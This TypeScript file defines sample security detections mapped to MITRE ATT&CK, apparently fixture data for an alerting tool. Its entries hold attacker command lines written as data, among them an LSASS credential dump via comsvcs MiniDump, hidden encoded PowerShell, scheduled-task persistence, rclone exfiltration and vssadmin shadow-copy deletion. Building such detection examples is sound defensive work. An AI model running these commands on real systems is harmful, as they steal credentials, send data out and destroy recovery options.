/** What an alert can be about. All names are made up; tactics and techniques are those of MITRE ATT&CK. */
export type Detection = {
  name: string;
  description: string;
  severity: number;
  tactic: [id: string, name: string];
  technique: [id: string, name: string];
  filename: string;
  cmdline: string;
};

export const detections: Detection[] = [
  {
    name: 'CredentialDumping',
    description: 'A process read the memory of LSASS in a way that steals credentials.',
    severity: 90,
    tactic: ['TA0006', 'Credential Access'],
    technique: ['T1003', 'OS Credential Dumping'],
    filename: 'rundll32.exe',
    cmdline: 'rundll32.exe comsvcs.dll, MiniDump 612 out.dmp full',
  },
  {
    name: 'EncodedPowerShell',
    description: 'PowerShell ran an encoded command that downloads and executes code.',
    severity: 70,
    tactic: ['TA0002', 'Execution'],
    technique: ['T1059', 'Command and Scripting Interpreter'],
    filename: 'powershell.exe',
    cmdline: 'powershell.exe -nop -w hidden -enc SQBFAFgA',
  },
  {
    name: 'ScheduledTaskPersistence',
    description: 'A scheduled task was made to start a program from a temporary folder.',
    severity: 50,
    tactic: ['TA0003', 'Persistence'],
    technique: ['T1053', 'Scheduled Task/Job'],
    filename: 'schtasks.exe',
    cmdline: 'schtasks /create /sc onlogon /tn Updater /tr %TEMP%\\u.exe',
  },
  {
    name: 'LateralMovementService',
    description: 'A service was installed from another host and started at once.',
    severity: 80,
    tactic: ['TA0008', 'Lateral Movement'],
    technique: ['T1021', 'Remote Services'],
    filename: 'services.exe',
    cmdline: 'C:\\Windows\\PSEXESVC.exe',
  },
  {
    name: 'ArchiveToCloud',
    description: 'A large archive of documents was sent to a cloud store not used before.',
    severity: 60,
    tactic: ['TA0010', 'Exfiltration'],
    technique: ['T1567', 'Exfiltration Over Web Service'],
    filename: 'rclone',
    cmdline: 'rclone copy /srv/share remote:drop',
  },
  {
    name: 'ShadowCopyDeletion',
    description: 'Volume shadow copies were deleted, as ransomware does before it encrypts.',
    severity: 95,
    tactic: ['TA0040', 'Impact'],
    technique: ['T1490', 'Inhibit System Recovery'],
    filename: 'vssadmin.exe',
    cmdline: 'vssadmin delete shadows /all /quiet',
  },
  {
    name: 'PortScan',
    description: 'A host asked many others for open ports within a minute.',
    severity: 30,
    tactic: ['TA0007', 'Discovery'],
    technique: ['T1046', 'Network Service Discovery'],
    filename: 'nmap',
    cmdline: 'nmap -sS 10.20.0.0/16',
  },
  {
    name: 'NewAdminTool',
    description: 'A remote administration tool was seen for the first time.',
    severity: 10,
    tactic: ['TA0011', 'Command and Control'],
    technique: ['T1219', 'Remote Access Software'],
    filename: 'remoteassist.exe',
    cmdline: 'remoteassist.exe --listen',
  },
];
